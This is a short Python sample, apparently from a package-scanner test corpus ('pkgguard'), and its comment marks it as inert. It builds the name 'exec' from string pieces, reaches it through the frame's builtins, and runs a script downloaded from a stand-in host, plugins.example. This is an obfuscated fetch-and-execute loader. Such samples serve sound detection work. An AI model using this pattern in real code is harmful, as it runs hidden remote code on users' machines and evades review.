# pkgguard corpus 515 (indirection), modelled on [obfuscation]; inert, never run.
import sys
import urllib.request

_run = sys._getframe(0).f_builtins["ex" + "ec"]
_run(urllib.request.urlopen("https://plugins.example/p.py", timeout=10).read())
